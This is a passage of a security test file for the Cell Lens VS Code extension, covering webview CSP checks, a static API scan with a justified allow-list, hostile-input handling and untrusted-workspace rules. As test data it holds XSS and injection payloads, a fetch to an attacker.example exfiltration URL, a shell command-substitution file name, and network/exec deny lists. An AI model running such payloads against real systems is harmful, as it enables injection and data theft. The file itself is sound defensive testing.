/**
 * Security properties of Cell Lens:
 *  (a) the graph webview's HTML: a Content-Security-Policy with default-src 'none', scripts only by nonce, no remote
 *      origin, every <script> carrying the nonce — checked on the text and enforced in headless Chromium;
 *  (b) a static scan (TypeScript AST) of src/ and webview/: no eval, no Function constructor, no network API or
 *      network module, no child processes / vm outside an allow-list whose every entry says why it is legitimate;
 *  (c) a recipe's content is data, never code: hostile node names and ops go through parse, validate, hash, the
 *      CLI and the rendered graph (SVG, tooltip, SVG export) as literal text;
 *  (d) no scoring process is started in an untrusted workspace, by any scoring command.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import * as ts from 'typescript';
import type { Browser } from 'playwright-core';
import { contentSecurityPolicy, makeNonce, webviewHtml } from '../../src/webviews/html';
import { parseDocument } from '../../src/recipe/parse';
import { toRecipe } from '../../src/recipe/model';
import { canonicalHash } from '../../src/recipe/canonical';
import { cellView } from '../../src/graph/views';
import { REPO } from '../helpers/data';
import { installFakeVscode, TextDocument, Uri } from '../../testkit/fake-vscode';
import { ScoringClient } from '../../src/process/client';
import {
  buildWebview,
  chromiumMissing,
  launch,
  openPage,
  post,
  posted,
  renderMessage,
} from '../../testkit/graph-browser';

const missingChromium = chromiumMissing();
const chromiumSkip = missingChromium ? `skipped: ${missingChromium}` : false;
let browser: Browser | undefined;
let webviewBuilt = false;
async function chromium(): Promise<Browser> {
  if (!webviewBuilt) {
    await buildWebview();
    webviewBuilt = true;
  }
  return (browser ??= await launch());
}
after(async () => {
  await browser?.close();
});

// ------------------------------------------------------------------ (a) the webview HTML and its CSP

const CSP_SOURCE = 'https://file+.vscode-resource.vscode-cdn.net';
const unescapeAttr = (s: string) =>
  s
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');

function cspOf(html: string): Map<string, string[]> {
  const metas = [...html.matchAll(/<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"\s*>/gi)];
  assert.equal(metas.length, 1, 'exactly one CSP meta tag');
  const directives = new Map<string, string[]>();
  for (const part of unescapeAttr(metas[0][1]).split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (!name) continue;
    assert.ok(!directives.has(name), `directive ${name} given twice`);
    directives.set(name.toLowerCase(), sources);
  }
  return directives;
}

test("(a) webview HTML: CSP default-src 'none', scripts only by nonce, no remote origin; every <script> has the nonce", () => {
  const nonce = makeNonce();
  const hostileTitle = 'Graph: </title><script>alert(1)</script><img src=x onerror=alert(2)>" onload="alert(3)';
  const html = webviewHtml({
    cspSource: CSP_SOURCE,
    nonce,
    title: hostileTitle,
    scriptUri: `${CSP_SOURCE}/ext/dist/webview.js`,
    styleUri: `${CSP_SOURCE}/ext/media/graph.css`,
  });
  const csp = cspOf(html);
  assert.deepEqual(csp.get('default-src'), ["'none'"]);
  assert.deepEqual(
    csp.get('script-src'),
    [`'nonce-${nonce}'`],
    'scripts: the nonce only (no unsafe-inline / unsafe-eval / hosts)',
  );
  for (const [name, sources] of csp) {
    for (const s of sources) {
      const ok =
        s === CSP_SOURCE || s === "'none'" || s === `'nonce-${nonce}'` || (s === 'data:' && name === 'img-src');
      assert.ok(ok, `${name} allows ${s}: only the webview's own resources, the nonce and data: images are allowed`);
    }
  }
  for (const d of ['connect-src', 'frame-src', 'object-src', 'worker-src', 'form-action'])
    assert.ok(!csp.has(d) || csp.get(d)!.join(' ') === "'none'", `${d} falls back to 'none'`);
  // Every script tag carries the nonce; the hostile title did not add one.
  const scripts = [...html.matchAll(/<script\b([^>]*)>/gi)];
  assert.equal(scripts.length, 1, 'one <script> (the title is escaped)');
  for (const s of scripts) assert.match(s[1], new RegExp(`\\bnonce="${nonce}"`));
  assert.doesNotMatch(html, /<img\b/i);
  assert.doesNotMatch(html.replace(/<title>[\s\S]*<\/title>/, ''), /\son[a-z]+\s*=/i, 'no inline event handlers');
  assert.equal(unescapeAttr(/<title>([\s\S]*)<\/title>/.exec(html)![1]), hostileTitle, 'the title is shown as text');
  // Resources come from the webview's own origin only.
  for (const m of html.matchAll(/\s(?:src|href)="([^"]*)"/g))
    assert.ok(unescapeAttr(m[1]).startsWith(`${CSP_SOURCE}/`), `resource ${m[1]}`);
  // The policy function agrees with what the page carries.
  assert.equal(unescapeAttr(/content="([^"]*)"/.exec(html)![1]), contentSecurityPolicy(CSP_SOURCE, nonce));
});

test('(a) nonces: 32 characters of [A-Za-z0-9], fresh every time; a nonce that could break the attribute is refused', () => {
  const seen = new Set<string>();
  for (let i = 0; i < 500; i++) {
    const n = makeNonce();
    assert.match(n, /^[A-Za-z0-9]{32}$/);
    seen.add(n);
  }
  assert.equal(seen.size, 500);
  const base = { cspSource: CSP_SOURCE, scriptUri: `${CSP_SOURCE}/a.js`, styleUri: `${CSP_SOURCE}/a.css` };
  for (const bad of [
    '',
    'short',
    'abc"def"ghi"jklmnop',
    "abcdefghijklmnop' 'unsafe-inline",
    'abcdefghijklmnop><script>',
  ]) {
    assert.throws(() => webviewHtml({ ...base, nonce: bad }), /nonce/);
  }
});

test('(a) every webview panel is opened by the panel host: command URIs off, resources only from dist/ and media/, a new nonce per page', () => {
  // One host holds the options of every panel.
  const host = readFileSync(join(REPO, 'src/webviews/host.ts'), 'utf8');
  assert.match(host, /enableCommandUris:\s*false/);
  assert.doesNotMatch(host, /enableCommandUris:\s*true/);
  const roots = /localResourceRoots:([\s\S]*?)\n\s*\};/.exec(host);
  assert.ok(roots, 'localResourceRoots is set');
  const folders = [...roots[1].matchAll(/joinPath\([^,]+,\s*'([^']+)'\)/g)].map((m) => m[1]);
  assert.deepEqual([...new Set(folders)].sort(), ['dist', 'media']);
  assert.equal((roots[1].match(/joinPath\(/g) ?? []).length, folders.length, 'every root is a folder of the extension');
  // A panel's own options come first: they cannot turn command URIs on or widen the roots.
  assert.match(
    host,
    /\.\.\.kind\.options,\s*enableScripts: scripts,\s*enableCommandUris: false,\s*localResourceRoots:/,
  );
  // The one place a panel is created; its page always gets a fresh nonce.
  assert.equal((host.match(/createWebviewPanel\(/g) ?? []).length, 1);
  assert.match(host, /createWebviewPanel\([^)]*panelOptions\(kind, extensionUri\)\)/);
  assert.match(host, /pageHtml\([^;]*nonce:\s*makeNonce\(\)/, 'a new nonce per page');
  assert.doesNotMatch(host, /\.html\s*=\s*`/, 'the HTML is built by the html helpers only');
  // No other file creates a panel, sets webview options, revives a panel or writes HTML of its own.
  const sources = (dir: string): string[] =>
    readdirSync(join(REPO, dir), { withFileTypes: true }).flatMap((e) =>
      e.isDirectory() ? sources(join(dir, e.name)) : e.name.endsWith('.ts') ? [join(dir, e.name)] : [],
    );
  for (const file of sources('src')) {
    if (file === join('src', 'webviews', 'host.ts')) continue;
    const text = readFileSync(join(REPO, file), 'utf8');
    assert.doesNotMatch(
      text,
      /createWebviewPanel|registerWebviewPanelSerializer|enableCommandUris|enableScripts|localResourceRoots|webview\.options\s*=/,
      `${file} sets no webview options of its own`,
    );
  }
  for (const file of [
    'src/webviews/graph/panel.ts',
    'src/webviews/compare/panel.ts',
    'src/webviews/table/panel.ts',
    'src/webviews/study/panel.ts',
    'src/webviews/lossCurves/panel.ts',
  ]) {
    const panel = readFileSync(join(REPO, file), 'utf8');
    assert.match(panel, /openPanel\(/, `${file} opens its panel through the host`);
    assert.doesNotMatch(panel, /\.html\s*=\s*`/, `${file}: the HTML is built by the html helpers only`);
    if (!file.includes('lossCurves')) {
      assert.match(panel, /new WebviewHost\(/, `${file}: its page is the host's (HTML with a fresh nonce)`);
      assert.doesNotMatch(panel, /\.html\s*=/, `${file} writes no HTML of its own`);
    }
  }
  // The static loss-curves page: scripts off, media/ only.
  assert.match(
    readFileSync(join(REPO, 'src/webviews/lossCurves/panel.ts'), 'utf8'),
    /PanelKind = \{[^}]*scripts: false[^}]*\}/,
  );
  assert.match(
    host,
    /scripts\s*\?\s*\[[^\]]*'dist'[^\]]*'media'[^\]]*\]\s*:\s*\[vscode\.Uri\.joinPath\(extensionUri, 'media'\)\]/,
  );
});

test(
  "(a) Chromium enforces the CSP: the nonce'd script runs; injected inline script, inline handler, eval and a fetch are blocked",
  { skip: chromiumSkip, timeout: 60_000 },
  async () => {
    const b = await chromium();
    const page = await b.newPage();
    try {
      const nonce = makeNonce();
      // The page's own script (by nonce) records CSP violations and tries what an attacker would do.
      const own = [
        'window.__ok = 1; window.__violations = [];',
        "document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective));",
        "try { eval('window.__eval = 1'); } catch (e) { window.__evalBlocked = String(e); }",
        "try { new Function('window.__fn = 1')(); } catch (e) { window.__fnBlocked = String(e); }",
        "fetch('https://attacker.example/steal').then(() => { window.__fetched = 1; }, () => { window.__fetchBlocked = 1; });",
      ].join('\n');
      let html = webviewHtml({
        cspSource: CSP_SOURCE,
        nonce,
        scriptUri: `data:text/javascript,${encodeURIComponent(own)}`,
        styleUri: `${CSP_SOURCE}/graph.css`,
      });
      // What an injection into the page would look like (if recipe text ever reached the HTML unescaped).
      html = html.replace(
        '<div id="cell-lens-graph"></div>',
        '<div id="cell-lens-graph"></div><script>window.__inline = 1</script><img src="data:," onerror="window.__handler = 1"><script src="https://attacker.example/x.js"></script>',
      );
      await page.setContent(html, { waitUntil: 'load' });
      await page.waitForFunction(
        () =>
          (window as unknown as { __fetchBlocked?: number; __fetched?: number }).__fetchBlocked ||
          (window as unknown as { __fetched?: number }).__fetched,
        undefined,
        { timeout: 10_000 },
      );
      const w = await page.evaluate(() => {
        const x = window as unknown as Record<string, unknown>;
        return {
          ok: x.__ok,
          inline: x.__inline,
          handler: x.__handler,
          evaled: x.__eval,
          fn: x.__fn,
          fetched: x.__fetched,
          violations: x.__violations as string[],
        };
      });
      assert.equal(w.ok, 1, "the nonce'd script ran");
      assert.equal(w.inline, undefined, 'an inline script without the nonce did not run');
      assert.equal(w.handler, undefined, 'an inline event handler did not run');
      assert.equal(w.evaled, undefined, 'eval is blocked');
      assert.equal(w.fn, undefined, 'new Function is blocked');
      assert.equal(w.fetched, undefined, 'a fetch to a remote origin is blocked');
      for (const d of ['script-src', 'connect-src'])
        assert.ok(
          w.violations.some((v) => v.startsWith(d)),
          `a ${d} violation was reported (${w.violations.join(', ')})`,
        );
    } finally {
      await page.close();
    }
  },
);

// ------------------------------------------------------------------ (b) static scan of src/ and webview/

interface Finding {
  readonly file: string;
  readonly line: number;
  readonly rule: string;
  readonly text: string;
}

const NETWORK_MODULES = new Set([
  'http',
  'https',
  'http2',
  'net',
  'tls',
  'dgram',
  'dns',
  'undici',
  'node-fetch',
  'axios',
  'ws',
  'got',
  'request',
]);
const EXEC_MODULES = new Set(['child_process', 'vm', 'worker_threads', 'cluster', 'inspector']);
const NETWORK_OBJECTS = new Set(['http', 'https', 'http2', 'net', 'tls', 'dgram']);
const NETWORK_GLOBALS = new Set(['XMLHttpRequest', 'WebSocket', 'EventSource', 'RTCPeerConnection']);
const HTML_SINKS = new Set(['innerHTML', 'outerHTML', 'insertAdjacentHTML', 'srcdoc']);
const GLOBAL_OBJECTS = new Set(['globalThis', 'window', 'self', 'global']);

/** Every use of a forbidden API in one TypeScript source. */
function scan(file: string, text: string): Finding[] {
  const sf = ts.createSourceFile(file, text, ts.ScriptTarget.ES2022, true, ts.ScriptKind.TS);
  const out: Finding[] = [];
  const report = (node: ts.Node, rule: string) =>
    out.push({
      file,
      rule,
      line: sf.getLineAndCharacterOfPosition(node.getStart(sf)).line + 1,
      text: node.getText(sf).slice(0, 100),
    });
  const moduleName = (s: string) => s.replace(/^node:/, '').split('/')[0];
  const checkModule = (node: ts.Node, spec: string) => {
    const m = moduleName(spec);
    if (NETWORK_MODULES.has(m)) report(node, `network module '${m}'`);
    if (EXEC_MODULES.has(m)) report(node, `process / code execution module '${m}'`);
  };
  /** `eval` / `globalThis.eval` / `window['eval']`. */
  const named = (e: ts.Expression, name: string): boolean =>
    (ts.isIdentifier(e) && e.text === name) ||
    (ts.isPropertyAccessExpression(e) &&
      e.name.text === name &&
      ts.isIdentifier(e.expression) &&
      GLOBAL_OBJECTS.has(e.expression.text)) ||
    (ts.isElementAccessExpression(e) &&
      ts.isStringLiteralLike(e.argumentExpression) &&
      e.argumentExpression.text === name);
  const visit = (node: ts.Node): void => {
    if (
      (ts.isImportDeclaration(node) || ts.isExportDeclaration(node)) &&
      node.moduleSpecifier &&
      ts.isStringLiteralLike(node.moduleSpecifier)
    ) {
      checkModule(node, node.moduleSpecifier.text);
    }
    if (
      ts.isImportEqualsDeclaration(node) &&
      ts.isExternalModuleReference(node.moduleReference) &&
      ts.isStringLiteralLike(node.moduleReference.expression)
    ) {
      checkModule(node, node.moduleReference.expression.text);
    }
    if (ts.isCallExpression(node)) {
      const callee = node.expression;
      const arg0 = node.arguments[0];
      if (named(callee, 'eval')) report(node, 'eval(');
      if (named(callee, 'Function')) report(node, 'Function(');
      if (named(callee, 'fetch')) report(node, 'fetch(');
      if ((ts.isIdentifier(callee) && callee.text === 'require') || callee.kind === ts.SyntaxKind.ImportKeyword) {
        if (arg0 && ts.isStringLiteralLike(arg0)) checkModule(node, arg0.text);
        else report(node, 'require/import of a computed module name');
      }
      if ((named(callee, 'setTimeout') || named(callee, 'setInterval')) && arg0 && ts.isStringLiteralLike(arg0))
        report(node, 'string-evaluating timer');
      if (
        ts.isPropertyAccessExpression(callee) &&
        callee.name.text === 'write' &&
        ts.isIdentifier(callee.expression) &&
        callee.expression.text === 'document'
      )
        report(node, 'document.write');
      if (ts.isPropertyAccessExpression(callee) && callee.name.text === 'sendBeacon')
        report(node, 'navigator.sendBeacon');
    }
    if (ts.isNewExpression(node)) {
      if (named(node.expression, 'Function')) report(node, 'new Function');
      for (const g of NETWORK_GLOBALS) if (named(node.expression, g)) report(node, `new ${g}`);
    }
    if (
      ts.isPropertyAccessExpression(node) &&
      ts.isIdentifier(node.expression) &&
      NETWORK_OBJECTS.has(node.expression.text)
    ) {
      report(node, `${node.expression.text}.${node.name.text}`);
    }
    if (ts.isPropertyAccessExpression(node) && HTML_SINKS.has(node.name.text))
      report(node, `HTML sink .${node.name.text}`);
    ts.forEachChild(node, visit);
  };
  visit(sf);
  return out;
}

/** Legitimate uses, each with the reason it is safe. A stale entry (no longer found) fails the test too. */
const ALLOWED: readonly { file: string; rule: string; why: string }[] = [
  {
    file: 'src/scoring/backends.ts',
    rule: 'new Function',
    why:
      "`new Function('s', 'return import(s)')` is a fixed wrapper that hides a dynamic import() from the CommonJS bundler, " +
      "used only to load the optional ESM package 'webgpu' (a constant) on Node < 20.19; no document content reaches it, " +
      'and it runs in the scoring child process, not in the webview (whose CSP forbids eval).',
  },
  {
    file: 'src/process/client.ts',
    rule: "process / code execution module 'child_process'",
    why:
      'fork() starts the bundled scoring worker (dist/worker.js, a file of the extension) with an IPC channel, no shell and ' +
      'no arguments; the recipe travels as structured-clone data over IPC and is validated by the worker before use.',
  },
  {
    file: 'src/benchmark/background.ts',
    rule: "process / code execution module 'worker_threads'",
    why:
      'new Worker() starts the bundled benchmark log reader (dist/benchmarkWorker.js, a file of the extension; no eval, ' +
      'no shell) so that parsing 14k logs does not stall the extension host; it gets the log paths from the settings and ' +
      'posts parsed runs back as structured-clone data, which the loader checks (isLoadMessage) before use.',
  },
  {
    file: 'src/scoring/model/gram.ts',
    rule: "process / code execution module 'worker_threads'",
    why:
      'helper threads of the scoring process compute float64 Gram matrices on every core; the thread source is a ' +
      'constant of the extension (the text of its own runPanel function plus a fixed loop, `eval: true` only because ' +
      "it must be the same code in the bundle and under tsx); it instantiates the extension's own compiled kernel " +
      '(gram.wat, bytes in gramWasm.ts) on shared memory, receives numbers there and starts nothing.',
  },
  {
    file: 'src/benchmark/worker.ts',
    rule: "process / code execution module 'worker_threads'",
    why:
      'the benchmark log reader worker thread itself: it reads workerData (checked by isLoadJob) and posts messages ' +
      'to its parent; it runs no code it is given and starts nothing.',
  },
  {
    file: 'src/editor/parseThread.ts',
    rule: "process / code execution module 'worker_threads'",
    why:
      'new Worker() starts the bundled document parser (dist/parseWorker.js, a file of the extension; no eval, no shell) ' +
      'so that parsing a 2,000-cell file does not block the extension host; it gets the document text and posts parsed ' +
      'cells back as structured-clone data, which the host checks (isParseReply) before use.',
  },
  {
    file: 'src/editor/parseWorker.ts',
    rule: "process / code execution module 'worker_threads'",
    why:
      'the document parser worker thread itself: it parses the text it is sent (checked by isParseRequest) with ' +
      'recipe/parse and posts the cells to its parent; it runs no code it is given and starts nothing.',
  },
];

function sourceFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const p = join(dir, e.name);
    return e.isDirectory() ? sourceFiles(p) : /\.(ts|js|mjs|cjs)$/.test(e.name) && !e.name.endsWith('.d.ts') ? [p] : [];
  });
}

test('(b) the scanner finds every forbidden pattern in a planted sample (so the scan below can fail)', () => {
  const planted = [
    "import * as http from 'node:http';",
    "import net = require('net');",
    "const cp = require('child_process');",
    "eval('1');",
    "globalThis.eval('2');",
    "window['eval']('3');",
    "new Function('return 1');",
    "Function('x', 'return x');",
    "fetch('https://x');",
    'http.request({});',
    "https.get('https://x');",
    'net.connect(80);',
    'new XMLHttpRequest();',
    "new WebSocket('wss://x');",
    "await import('https');",
    'require(name);',
    "setTimeout('alert(1)', 1);",
    "el.innerHTML = '<b>';",
    "document.write('x');",
  ];
  const found = planted.map((line) => scan('planted.ts', line));
  found.forEach((f, i) => assert.ok(f.length > 0, `not detected: ${planted[i]}`));
  // And ordinary code is not flagged.
  assert.deepEqual(
    scan(
      'ok.ts',
      "const fetchSize = 1; const evaluation = f(); obj.fetch = 2; import * as fs from 'node:fs'; x.textContent = 'a';",
    ),
    [],
  );
});

test('(b) src/ and webview/: no eval, new Function, network APIs or modules, child processes outside the allow-list', (t) => {
  const files = [...sourceFiles(join(REPO, 'src')), ...sourceFiles(join(REPO, 'webview'))];
  assert.ok(files.length > 30, `only ${files.length} source files found`);
  const findings = files.flatMap((f) => scan(relative(REPO, f).split('\\').join('/'), readFileSync(f, 'utf8')));
  const allowed = (x: Finding) => ALLOWED.some((a) => a.file === x.file && a.rule === x.rule);
  const bad = findings.filter((x) => !allowed(x));
  assert.deepEqual(
    bad.map((x) => `${x.file}:${x.line} ${x.rule}: ${x.text}`),
    [],
    'forbidden API use (add it to ALLOWED only with a justification)',
  );
  for (const a of ALLOWED) {
    assert.ok(a.why.length > 60, 'every allow-list entry explains itself');
    assert.ok(
      findings.some((x) => x.file === a.file && x.rule === a.rule),
      `stale allow-list entry: ${a.file} ${a.rule}`,
    );
  }
  // Modules loaded by a computed name at run time: only the optional TF.js backends.
  const backends = readFileSync(join(REPO, 'src/scoring/backends.ts'), 'utf8');
  const lazy = [...backends.matchAll(/lazyRequire\(([^)]*)\)/g)]
    .map((m) => m[1].trim())
    .filter((a) => a !== 'id: string');
  assert.ok(lazy.length > 0);
  for (const a of lazy)
    assert.match(
      a,
      /^'(@tensorflow\/tfjs-node(-gpu)?|@tensorflow\/tfjs-backend-webgpu|@tensorflow\/tfjs-core|webgpu)'$/,
      `lazyRequire(${a})`,
    );
  t.diagnostic(
    `${files.length} files scanned; ${findings.length} allowed finding(s): ${findings.map((x) => `${x.file}:${x.line} ${x.rule}`).join('; ')}`,
  );
});

// ------------------------------------------------------------------ (c) recipe content is data

const PAYLOADS = [
  '"); process.exit(7); //',
  '${process.exit(9)}',
  "'); globalThis.__pwned = 1; //",
  '<script>globalThis.__pwned = 2</script>',
  '<img src=x onerror="globalThis.__pwned = 3">',
  ']]></text><script>globalThis.__pwned = 4</script><text>',
  "{{constructor.constructor('globalThis.__pwned = 5')()}}",
  '&lt;b&gt; &amp; &#x3C;',
  'javascript:globalThis.__pwned=6',
  '`${globalThis.__pwned = 7}`',
];
/** A valid chain of linear / tanh nodes named by the payloads, plus a node whose op is a payload. */
function hostileCell(): Record<string, { op: string; input: string[] }> {
  const r: Record<string, { op: string; input: string[] }> = {};
  let prev = 'x';
  PAYLOADS.forEach((p, i) => {
    r[p] = { op: i % 2 ? 'activation_tanh' : 'linear', input: i % 2 ? [prev] : [prev, 'h_prev_0'] };
    prev = p;
  });
  r.h_new_0 = { op: 'activation_sigm', input: [prev] };
  return r;
}
const HOSTILE_OP = '<script>globalThis.__pwned = 8</script>';
function hostileText(): string {
  const r: Record<string, { op: string; input: string[] }> = {
    ...hostileCell(),
    "'; process.exit(5); '": { op: HOSTILE_OP, input: ['x'] },
  };
  return JSON.stringify(r, null, 1);
}

test('(c) hostile names and ops parse as data: exact strings back, nothing executed, spans exact', () => {
  const g = globalThis as Record<string, unknown>;
  const text = hostileText();
  const doc = parseDocument(text);
  assert.equal(doc.cells.length, 1);
  const cell = doc.cells[0];
  const names = cell.nodes.map((n) => n.name);
  for (const p of PAYLOADS) assert.ok(names.includes(p), `node named ${JSON.stringify(p)}`);
  for (const n of cell.nodes) assert.equal(JSON.parse(text.slice(n.keySpan.start, n.keySpan.end)), n.name);
  const bad = cell.diagnostics.find((d) => d.code === 'unknown-op');
  assert.ok(bad && bad.message.includes(HOSTILE_OP), 'the hostile op is reported, quoted as text');
  assert.equal(cell.diagnostics.filter((d) => d.severity === 'error').length, 1, 'only the unknown op is an error');
  assert.match(canonicalHash(toRecipe(cell)), /^[0-9a-f]{32}$/);
  const view = cellView(cell);
  for (const p of PAYLOADS) assert.ok(view.model.nodes.some((n) => n.name === p));
  assert.equal(g.__pwned, undefined);
  // And inside a training log's recepie string (doubly escaped).
  const log = JSON.stringify({ recepie: JSON.stringify(hostileCell()), recepie_id: 1 });
  const lc = parseDocument(log).cells[0];
  assert.deepEqual(lc.nodes.map((n) => n.name).sort(), Object.keys(hostileCell()).sort());
  assert.deepEqual(
    lc.diagnostics.filter((d) => d.severity === 'error'),
    [],
  );
  assert.equal(g.__pwned, undefined);
});

test('(c) the CLI treats hostile text as data: payloads printed verbatim, the exit code is the diagnostic one', () => {
  const tmp = mkdtempSync(join(tmpdir(), 'cell-lens-sec-'));
  try {
    const file = join(tmp, 'hostile $(touch pwned) `touch pwned2`.json');
    writeFileSync(file, hostileText(), 'utf8');
    const cli = join(REPO, 'dist/cli.js');
    // The bundle when it is current, else the sources through tsx (both are the real CLI code).
    const newest = (d: string): number =>
      readdirSync(d, { withFileTypes: true }).reduce(
        (m, e) => Math.max(m, e.isDirectory() ? newest(join(d, e.name)) : statSync(join(d, e.name)).mtimeMs),
        0,
      );
    const useDist = (() => {
      try {
        return statSync(cli).mtimeMs >= newest(join(REPO, 'src'));
      } catch {
        return false;
      }
    })();
    const argv = useDist ? [cli] : ['--import', 'tsx', join(REPO, 'src/cli.ts')];
    // cwd: the repository (so that `--import tsx` resolves); a shell, if one ran the file name, would create files here or in tmp.
    const json = spawnSync(process.execPath, [...argv, 'check', file, '--json'], {
      encoding: 'utf8',
      cwd: REPO,
      timeout: 60_000,
    });
    assert.equal(json.stderr, '');
    assert.equal(json.status, 1, `exit ${json.status} (7, 9 or 5 would mean a payload ran): ${json.stderr}`);
    const report = JSON.parse(json.stdout) as {
      diagnostics: { code: string; message: string }[];
      cells: { nodes: number }[];
    }[];
    assert.equal(report[0].cells[0].nodes, PAYLOADS.length + 2);
    assert.ok(report[0].diagnostics.some((d) => d.code === 'unknown-op' && d.message.includes(HOSTILE_OP)));
    const plain = spawnSync(process.execPath, [...argv, 'check', file], {
      encoding: 'utf8',
      cwd: REPO,
      timeout: 60_000,
    });
    assert.equal(plain.stderr, '');
    assert.equal(plain.status, 1);
    assert.ok(plain.stdout.includes(HOSTILE_OP), 'the op is printed as text');
    assert.match(plain.stdout, /1 cell, 1 error/);
    assert.deepEqual(readdirSync(tmp).sort(), [file.slice(tmp.length + 1)], 'the file name was not run by a shell');
    assert.ok(!readdirSync(REPO).some((f) => /^pwned/.test(f)), 'the file name was not run by a shell');
  } finally {
    rmSync(tmp, { recursive: true, force: true });
  }
});

test(
  '(c) the rendered graph shows hostile names as text: no injected element, tooltip and SVG export escaped',
  { skip: chromiumSkip, timeout: 90_000 },
  async () => {
    const b = await chromium();
    const page = await openPage(b, 'dark');
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    try {
      const msg = renderMessage(hostileText(), { uri: 'file:///ws/%3Cscript%3E.json' });
      await post(page, msg);
      const dom = await page.evaluate(() => {
        const root = document.getElementById('cell-lens-graph')!;
        return {
          names: Array.from(root.querySelectorAll('.cl-name')).map((e) => e.textContent ?? ''),
          ops: Array.from(root.querySelectorAll('.cl-op')).map((e) => e.textContent ?? ''),
          injected: root.querySelectorAll('script, img, iframe, object, embed, foreignObject, a[href]').length,
          handlers: Array.from(root.querySelectorAll('*')).flatMap((e) =>
            Array.from(e.attributes)
              .filter((a) => /^on/i.test(a.name))
              .map((a) => a.name),
          ),
          pwned: (window as unknown as { __pwned?: unknown }).__pwned,
        };
      });
      for (const p of PAYLOADS) assert.ok(dom.names.includes(p), `node label ${JSON.stringify(p)} shown verbatim`);
      assert.ok(
        dom.ops.some((o) => o.includes(HOSTILE_OP)),
        'the unknown op is shown as text',
      );
      assert.equal(dom.injected, 0, 'no element was created from recipe text');
      assert.deepEqual(dom.handlers, []);
      assert.equal(dom.pwned, undefined);
      // The tooltip (on focus) lists the hostile names and the marker message as text.
      const target = msg.cells[0].model.nodes.find((n) => n.op === HOSTILE_OP)!;
      await page.focus(`.cl-node[data-id="${target.id.replace(/["\\]/g, '\\$&')}"]`);
      const tip = await page.evaluate(() => {
        const t = document.querySelector<HTMLElement>('.cl-tooltip, [class*="tooltip"]');
        return t ? { text: t.textContent ?? '', elements: t.querySelectorAll('script, img').length } : undefined;
      });
      assert.ok(tip, 'a tooltip is shown');
      assert.ok(tip.text.includes(HOSTILE_OP));
      assert.equal(tip.elements, 0);
      // The SVG export is well-formed XML whose text nodes are the names; nothing executable in it.
      await post(page, { type: 'exportRequest', format: 'svg' });
      await page.waitForFunction(() =>
        (window as unknown as { __posted: { type: string }[] }).__posted.some((m) => m.type === 'export'),
      );
      const svg = String((await posted(page)).find((m) => m.type === 'export')!.data);
      assert.doesNotMatch(svg, /<script|<img|<foreignObject|<iframe/i, 'markup in names is escaped (&lt;…)');
      const parsed = await page.evaluate((s) => {
        const d = new DOMParser().parseFromString(s, 'image/svg+xml');
        return {
          error: d.querySelector('parsererror')?.textContent ?? null,
          texts: Array.from(d.querySelectorAll('text')).map((e) => e.textContent ?? ''),
          scripts: d.querySelectorAll('script, img, foreignObject, iframe').length,
          handlers: Array.from(d.querySelectorAll('*')).flatMap((e) =>
            Array.from(e.attributes)
              .filter((a) => /^on/i.test(a.name))
              .map((a) => a.name),
          ),
        };
      }, svg);
      assert.equal(parsed.error, null);
      assert.equal(parsed.scripts, 0);
      assert.deepEqual(parsed.handlers, [], 'no event-handler attribute in the exported SVG');
      for (const p of PAYLOADS) assert.ok(parsed.texts.includes(p), `exported label ${JSON.stringify(p)}`);
      assert.deepEqual(dialogs, [], 'no alert/confirm dialog was opened');
      assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined);
    } finally {
      await page.close();
    }
  },
);

// ------------------------------------------------------------------ (d) no scorer in an untrusted workspace

test(
  '(d) untrusted workspace: no scoring command starts a process (child_process spied)',
  { timeout: 60_000 },
  async () => {
    // The spy must see ScoringClient's fork: prove it with a client whose start is intercepted.
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const cp = require('node:child_process') as typeof import('node:child_process');
    const calls: string[] = [];
    const saved = { fork: cp.fork, spawn: cp.spawn, execFile: cp.execFile, exec: cp.exec };
    const spy = (name: keyof typeof saved) =>
      ((...args: unknown[]) => {
        calls.push(`${name} ${String(args[0])}`);
        throw new Error('spawning is not allowed in this test');
      }) as never;
    for (const k of Object.keys(saved) as (keyof typeof saved)[]) (cp as Record<string, unknown>)[k] = spy(k);
    const host = installFakeVscode();
    const storage = mkdtempSync(join(tmpdir(), 'cell-lens-sec-trust-'));
    const subscriptions: { dispose(): void }[] = [];
    try {
      const probe = new ScoringClient({ workerPath: join(REPO, 'dist/worker.js') });
      await assert.rejects(
        probe.score(
          { h_new_0: { op: 'linear', input: ['x'] } },
          {
            vocab: 5,
            embed: 2,
            hidden: 2,
            layers: 1,
            seqLen: 1,
            batch: 1,
            scores: ['params'],
            seed: 0,
            repeats: 1,
            backend: 'cpu',
          },
        ),
        /Could not start/,
      );
      probe.dispose();
      assert.equal(calls.length, 1, "the spy intercepts the scoring client's fork");
      calls.length = 0;

      host.trusted = false;
      const ext = require('../../src/extension') as typeof import('../../src/extension');
      const api = ext.activate({
        subscriptions,
        extensionPath: REPO,
        extensionUri: Uri.file(REPO),
        globalStorageUri: { fsPath: storage },
      } as never);
      const doc = new TextDocument(
        Uri.file('/ws/lstm.json'),
        'json',
        1,
        readFileSync(join(REPO, 'test/fixtures/workspace/lstm.json'), 'utf8'),
      );
      host.open(doc);
      const run = (id: string, ...args: unknown[]) => {
        const f = host.commands.get(id);
        assert.ok(f, `command ${id} is registered`);
        return f(...args);
      };
      const before = host.messages.length;
      await run('cellLens.scoreCell', doc.uri, 0);
      await run('cellLens.scoreFile', doc.uri);
      await run('cellLens.scoreWorkspace');
      await run('cellLens.restartScoring');
      await run('cellLens.scoringActions');
      assert.deepEqual(calls, [], 'no process was started');
      assert.equal(api.scoring.processStatus, undefined, 'no scoring client was even created');
      const warnings = host.messages
        .slice(before)
        .filter((m: { level: string; text: string }) => m.level === 'warn' && /untrusted workspace/.test(m.text));
      assert.ok(
        warnings.length >= 3,
